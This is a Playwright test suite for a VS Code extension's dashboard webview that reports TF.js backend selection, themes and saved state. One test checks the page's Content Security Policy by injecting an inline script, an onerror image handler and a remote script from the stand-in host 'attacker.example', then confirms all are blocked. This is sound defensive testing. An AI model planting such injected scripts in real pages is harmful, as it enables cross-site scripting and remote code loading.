import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { sampleReport } from '../support/sampleReport';
import { launchChromium, type OpenedWebview, openWebview, screenshot } from './harness';
import type { ThemeName } from './themes';

const bundle = path.join(__dirname, '..', '..', 'dist', 'webview', 'dashboard.js');

describe('dashboard webview in Chromium', () => {
  let browser: Browser;
  const open = (theme: ThemeName = 'dark', state?: unknown) =>
    openWebview(browser, { bundle: 'dashboard', title: 'SynthPair Dashboard', theme, state });

  before(async () => {
    if (!existsSync(bundle)) {
      throw new Error('dist/webview/dashboard.js is missing: run `npm run build` first');
    }
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
  });

  async function withReport(theme: ThemeName = 'dark'): Promise<OpenedWebview> {
    const webview = await open(theme);
    await webview.postFromHost({ type: 'workerState', state: 'ready' });
    await webview.postFromHost({ type: 'backendReport', report: sampleReport() });
    await webview.page.locator('#selected-backend').waitFor();
    return webview;
  }

  it('says it is starting and tells the host it is ready', async () => {
    const webview = await open();
    await webview.page.getByText('Starting the engine worker…').waitFor();
    assert.deepEqual(await webview.posted(), [{ type: 'ready' }]);
    assert.equal(await webview.page.locator('#app').getAttribute('aria-busy'), 'true');
    await webview.page.close();
  });

  it('renders the backend report: selected backend, every attempt and the wasm features', async () => {
    const webview = await withReport();
    const { page } = webview;
    assert.equal((await page.locator('#selected-backend').textContent())?.trim(), 'wasm');
    const rows = page.locator('#attempts vscode-table-row');
    assert.equal(await rows.count(), 4);
    assert.deepEqual(
      await rows.evaluateAll((elements) =>
        elements.map((row) => [row.getAttribute('data-backend'), row.getAttribute('data-outcome')]),
      ),
      [
        ['node-gpu', 'not-installed'],
        ['node', 'failed'],
        ['wasm', 'selected'],
        ['cpu', 'not-tried'],
      ],
    );
    assert.match((await rows.nth(1).textContent()) ?? '', /tfjs_binding\.node missing/);
    assert.match(
      (await page.locator('.features').textContent()) ?? '',
      /SIMD on[\s\S]*single thread[\s\S]*Conv2DBackpropFilter/,
    );
    assert.match((await page.locator('.worker-state').textContent()) ?? '', /worker ready/);
    assert.equal(await page.locator('#app').getAttribute('aria-busy'), 'false');
    assert.deepEqual(
      webview.consoleMessages.filter((line) => line.startsWith('error')),
      [],
    );
    await page.close();
  });

  it('refuses a malformed message from the host and keeps what it showed', async () => {
    const webview = await withReport();
    await webview.postFromHost({ type: 'backendReport', report: { selected: 'tpu' } });
    await webview.postFromHost({ type: 'launchMissiles' });
    await webview.page.waitForFunction(() => true);
    assert.equal((await webview.page.locator('#selected-backend').textContent())?.trim(), 'wasm');
    const refusals = webview.consoleMessages.filter((line) => line.includes('SynthPair: refused message'));
    assert.equal(refusals.length, 2, webview.consoleMessages.join('\n'));
    assert.match(refusals[0]!, /report\.\w+/);
    await webview.page.close();
  });

  it('shows a backend error with its causes', async () => {
    const webview = await open();
    await webview.postFromHost({
      type: 'backendError',
      error: { message: 'No TF.js backend could be started', causes: ['wasm binary missing'] },
    });
    const alert = webview.page.getByRole('alert');
    await alert.waitFor();
    assert.match(
      (await alert.textContent()) ?? '',
      /No TF.js backend could be started[\s\S]*Cause: wasm binary missing/,
    );
    await webview.page.close();
  });

  it('asks the host to detect the backend again and shows that it is busy', async () => {
    const webview = await withReport();
    await webview.page.locator('#refresh').click();
    await webview.page.locator('vscode-progress-ring').waitFor();
    assert.deepEqual((await webview.posted()).slice(-1), [{ type: 'refreshBackend' }]);
    assert.equal(await webview.page.locator('#refresh').getAttribute('disabled'), '');
    await webview.page.locator('#show-output').click();
    assert.deepEqual((await webview.posted()).slice(-1), [{ type: 'showOutput' }]);
    await webview.page.close();
  });

  it('restores the last report from its saved state before the host answers', async () => {
    const first = await withReport();
    const saved = await first.state();
    await first.page.close();
    assert.deepEqual(saved, { report: sampleReport() });
    const reloaded = await open('dark', saved);
    await reloaded.page.locator('#selected-backend').waitFor({ timeout: 5000 });
    assert.equal((await reloaded.page.locator('#selected-backend').textContent())?.trim(), 'wasm');
    await reloaded.page.close();
    const stale = await open('dark', { report: { selected: 'from an older version' } });
    await stale.page.getByText('Starting the engine worker…').waitFor();
    await stale.page.close();
  });

  it('blocks injected inline scripts, inline handlers and remote scripts with its CSP', async () => {
    const webview = await withReport();
    const { page } = webview;
    await page.evaluate(() => {
      const inline = document.createElement('script');
      inline.textContent = 'window.injectedInline = true;';
      document.body.append(inline);
      const handler = document.createElement('div');
      handler.innerHTML = '<img src="data:image/png;base64,broken" onerror="window.injectedHandler = true">';
      document.body.append(handler);
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/payload.js';
      document.body.append(remote);
    });
    await page.waitForTimeout(300);
    const ran = await page.evaluate(() => ({
      inline: (window as unknown as { injectedInline?: boolean }).injectedInline,
      handler: (window as unknown as { injectedHandler?: boolean }).injectedHandler,
    }));
    assert.deepEqual(ran, { inline: undefined, handler: undefined });
    const violations = await webview.cspViolations();
    assert.ok(
      violations.filter((violation) => violation.startsWith('script-src')).length >= 3,
      violations.join('\n'),
    );
    await page.close();
  });

  for (const [theme, background] of [
    ['light', 'rgb(255, 255, 255)'],
    ['dark', 'rgb(31, 31, 31)'],
    ['high-contrast', 'rgb(0, 0, 0)'],
  ] as const) {
    it(`follows the ${theme} theme's colours`, async () => {
      const webview = await withReport(theme);
      const body = await webview.page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      assert.equal(body, background);
      await screenshot(webview.page, `dashboard-${theme}`);
      await webview.page.close();
    });
  }
});
